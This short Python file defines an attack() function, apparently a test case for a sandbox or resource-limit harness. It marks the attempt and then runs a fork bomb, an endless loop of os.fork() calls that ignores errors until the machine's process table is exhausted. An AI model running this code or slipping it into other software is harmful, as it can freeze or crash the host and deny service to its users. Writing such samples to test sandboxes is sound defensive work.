from kit import *


def attack():
    attempted()
    while True:
        try:
            os.fork()
        except OSError:
            pass
